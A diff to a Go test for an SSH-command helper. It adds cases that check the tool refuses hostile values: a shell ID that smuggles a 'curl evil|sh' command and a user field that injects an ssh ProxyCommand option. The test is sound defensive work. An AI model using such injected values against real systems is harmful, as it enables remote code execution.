@@ -116,6 +116,16 @@ func TestShowSSHCommand(t *testing.T) {
 	if _, errOut, code := runFake(t, f, "", "shell", "show_ssh_command", "8f3a"); code != 1 || !strings.Contains(errOut, "shell 8f3a-full has ended") {
 		t.Errorf("ended: exit %d: %s", code, errOut)
 	}
+	for _, bad := range []func(*api.Shell){
+		func(sh *api.Shell) { sh.ID = "x;curl evil|sh;#" },
+		func(sh *api.Shell) { sh.AgentUserGroup.User = "-oProxyCommand=evil" },
+	} {
+		f.launched = shellWithKey()
+		bad(f.launched.Shell)
+		if out, errOut, code := runFake(t, f, "", "shell", "show_ssh_command", "8f3a"); code != 1 || out != "" || !strings.Contains(errOut, "refusing to put it in an ssh command") {
+			t.Errorf("a hostile id or user from the bridge: exit %d: %s%s", code, out, errOut)
+		}
+	}
 	t.Setenv("XDG_CACHE_HOME", filepath.Join(t.TempDir(), "100%"))
 	f.launched = shellWithKey()
 	if _, errOut, code := runFake(t, f, "", "shell", "show_ssh_command", "8f3a"); code != 1 || !strings.Contains(errOut, "set XDG_CACHE_HOME to a folder without") {
